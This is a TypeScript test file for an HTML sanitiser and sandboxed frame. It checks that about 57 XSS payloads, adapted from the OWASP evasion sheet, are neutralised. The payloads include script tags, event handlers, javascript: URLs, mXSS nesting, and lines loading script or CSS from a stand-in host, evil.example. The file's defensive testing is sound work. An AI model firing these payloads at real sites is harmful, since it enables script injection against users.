import fc from 'fast-check'
import { type DefaultTreeAdapterMap, parse } from 'parse5'
import { describe, expect, test } from 'vitest'
import { frameHeight, htmlBlockFrame } from './frame.ts'
import { sanitise, wordsOf } from './sanitise.ts'

const siteUrl = 'https://lantern.example'
const clean = (html: string) => sanitise(html, { siteUrl })

// After the OWASP XSS filter evasion sheet and cases that broke other sanitisers.
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(1)>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="x" onclick=alert(1)>x</a>',
  '<a href="https://a.example" style="position:fixed;inset:0">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style><!--</style><script>alert(1)</script>-->',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="background-image:url(//evil.example/x)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="color:red;behavior:url(x.htc)">x</div>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<video poster=javascript:alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<p id="config" name="body">x</p><a id=x><a id=x name=y>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<xmp><p title="</xmp><script>alert(1)</script>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<p title="`<script>alert(1)</script>`">',
  '<a href="https://a.example/" target=_top rel=opener>x</a>',
  '<img srcset="https://a.example/x 1x, javascript:alert(1) 2x">',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<isindex action=javascript:alert(1)>',
  '<plaintext><script>alert(1)</script>',
]

describe('hostile HTML', () => {
  test.each(attacks)('%s', attack => {
    expectHarmless(clean(attack))
    expectHarmless(htmlBlockFrame({ html: attack }, { siteUrl, language: 'en', direction: 'ltr' }).body)
  })

  test('attacks put together are no worse', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.constantFrom(...attacks), fc.string())), parts => {
        const once = clean(parts.join(''))
        expectHarmless(once)
        expectHarmless(clean(once))
      }),
      { numRuns: 300 },
    )
  })
})

describe('what stays', () => {
  test('text, tables, lists and pictures', () => {
    const html =
      '<h2>Fares</h2><table><tr><th scope="col">A</th><td colspan="2" style="text-align:end">1</td></tr></table>'
    expect(clean(html)).toBe(html)
    expect(clean('<img src="/media/1.png" alt="A" width="10" height="5">')).toBe(
      '<img src="https://lantern.example/media/1.png" alt="A" width="10" height="5" loading="lazy" />',
    )
  })

  test('links are whole, safe, and open a window only from the frame', () => {
    expect(clean('<a href="/eels" target="_blank">x</a>')).toBe(
      '<a href="https://lantern.example/eels" rel="noopener">x</a>',
    )
    expect(sanitise('<a href="/eels">x</a>', { siteUrl, newWindow: true })).toContain('target="_blank"')
    expect(clean('<a href="#top">x</a>')).toBe('<a>x</a>')
    expect(clean('<a href="page.html">x</a><img src="a.png">')).toBe('<a>x</a>')
  })

  test('a frame becomes a link to what it would have shown', () => {
    expect(clean('<iframe src="https://maps.example.org/a?b=1&amp;c=2" title="The route"></iframe>')).toBe(
      '<a href="https://maps.example.org/a?b=1&amp;c=2" rel="noopener">The route</a>',
    )
  })

  test('small bitmaps may be inside, large ones and drawings may not', () => {
    expect(clean('<img src="data:image/png;base64,iVBORw0KGgo=" alt="">')).toContain('data:image/png')
    expect(clean(`<img src="data:image/png;base64,${'A'.repeat(50_000)}">`)).toBe('')
    expect(clean('<img src="data:image/svg+xml;base64,PHN2Zz4=">')).toBe('')
  })

  test('its words, line by line', () => {
    expect(wordsOf('<p>Fish &amp; <b>chips</b></p><ul><li>one<li>two</ul>')).toBe('Fish & chips\none\ntwo')
    expect(wordsOf('<table><tr><td>Islander</td><td>€2</td></tr></table>')).toBe('Islander €2')
    expect(wordsOf('<p>1 &lt; 2<script>alert(1)</script></p>')).toBe('1 < 2')
  })
})

describe('the frame', () => {
  test('its document may show pictures and nothing else', () => {
    const { body, headers } = htmlBlockFrame(
      { html: '<p>Hello</p><script>alert(1)</script>' },
      {
        siteUrl,
        language: 'ar"><script>',
        direction: 'rtl',
        css: 'p{color:red}</style><script>alert(1)</script>',
      },
    )
    expect(body).toContain('<p>Hello</p>')
    expect(body).toContain('lang="arscript" dir="rtl"')
    expectHarmless(body, ['style', 'meta', 'title', 'head', 'html', 'body'])
    const policy = headers['content-security-policy']
    expect(policy).toContain("default-src 'none'")
    expect(policy).toContain('sandbox allow-popups allow-popups-to-escape-sandbox;')
    expect(policy).not.toContain('script')
  })

  test('its height is the one given, or reckoned from the content', () => {
    expect(frameHeight({ html: '', height: 300 })).toBe(300)
    expect(frameHeight({ html: '<p>x</p>' })).toBeLessThan(120)
    expect(frameHeight({ html: `<p>${'word '.repeat(300)}</p><img src=x>` })).toBeGreaterThan(900)
  })
})

const document = ['html', 'head', 'body']

/** Reads the HTML as a browser does and looks at what it became. */
function expectHarmless(html: string, alsoAllowed: string[] = ['style', 'meta', 'title']): void {
  const visit = (node: DefaultTreeAdapterMap['node']) => {
    if ('tagName' in node) {
      expect([...allowed, ...document, ...alsoAllowed]).toContain(node.tagName)
      for (const { name, value } of node.attrs) {
        if (node.tagName !== 'meta')
          expect(name).not.toMatch(/^on|^(id|name|class|srcdoc|srcset|poster)$|action|background|xlink/)
        if (name === 'href') expect(value).toMatch(/^(https?|mailto|tel):/i)
        if (name === 'src') expect(value).toMatch(/^(https?:|data:image\/(png|gif|jpeg|webp);base64,)/i)
        if (name === 'style') expect(value).not.toMatch(/url|expression|position|@|\\/i)
        if (name === 'target') expect(value).toBe('_blank')
      }
    }
    if ('childNodes' in node) node.childNodes.forEach(visit)
  }
  visit(parse(html))
}

const allowed =
  'p div span br hr h2 h3 h4 h5 h6 blockquote pre section article a b strong i em u s del ins mark small sub sup code kbd samp var q cite abbr dfn time bdi bdo wbr ruby rb rt rp ul ol li dl dt dd figure figcaption img details summary table caption colgroup col thead tbody tfoot tr th td'.split(
    ' ',
  )
